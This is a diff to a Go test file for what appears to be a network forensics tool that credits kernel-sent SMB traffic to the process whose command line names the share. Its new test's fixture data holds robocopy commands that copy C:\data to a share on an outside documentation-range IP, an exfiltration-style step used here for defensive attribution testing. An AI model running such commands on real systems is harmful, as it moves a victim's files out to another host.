@@ -65,7 +65,9 @@ func (s *scene) run(stated ...Stated) *Case {
 	return Run(casefile.Gather([]casefile.Source{{File: finding.File{Name: "f"}, Batch: &s.batch}}), stated)
 }
 
-func program(pid uint32, image string) evidence.Program { return evidence.Program{PID: pid, Image: image} }
+func program(pid uint32, image string) evidence.Program {
+	return evidence.Program{PID: pid, Image: image}
+}
 
 // owners lists who owns the connections of the capture, in order.
 func owners(c *Case) (out []string) {
@@ -278,5 +280,20 @@ func TestOrderOfSourcesDoesNotMatter(t *testing.T) {
 	two := owners(Run(casefile.Gather([]casefile.Source{b, a}), nil))
 	if !slices.Equal(one, two) {
 		t.Errorf("%q and %q", one, two)
+	}
+}
+
+// The kernel sends SMB for everybody; whose command line names the share is a candidate.
+func TestKernelSendsOnBehalf(t *testing.T) {
+	s := &scene{}
+	line := func(pid uint32, text string) {
+		s.batch.Process(evidence.Process{Header: s.header(sysmonProvider, 1, noon, noon), Program: program(pid, `C:\Windows\System32\robocopy.exe`), CommandLine: text})
+	}
+	line(21, `robocopy C:\data \\203.0.113.7\drop /e`)
+	line(22, `robocopy C:\data \\203.0.113.77\drop /e`)
+	s.conn(50001, noon, time.Second)
+	s.socket(sysmonProvider, 50001, noon, noon, program(4, "System"))
+	if got := s.run().Links[0].Attribution.Behalf; !slices.Equal(got, []string{"robocopy.exe (21)"}) {
+		t.Errorf("on behalf of %q", got)
 	}
 }
